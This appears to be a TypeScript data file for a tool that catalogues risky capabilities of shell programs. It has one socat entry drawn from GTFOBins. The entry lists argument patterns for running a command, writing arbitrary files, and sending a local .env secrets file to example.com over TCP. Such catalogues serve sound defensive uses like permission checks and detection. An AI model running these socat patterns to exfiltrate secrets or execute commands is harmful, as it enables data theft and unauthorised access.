import type { Program } from '../program.ts';

export default (): readonly Program[] => [
  {
    prefix: 'socat',
    powers: [
      { can: 'exec', words: '-u EXEC:id STDOUT', seen: true },
      { can: 'network-out', words: '-u OPEN:.env TCP:example.com:80', seen: true },
      { can: 'write-any', words: '-u STDIN OPEN:/tmp/x,creat', feed: 'echo x', mild: true, seen: true },
    ],
    source: ['gtfo:socat'],
    confidence: 'high',
  },
];
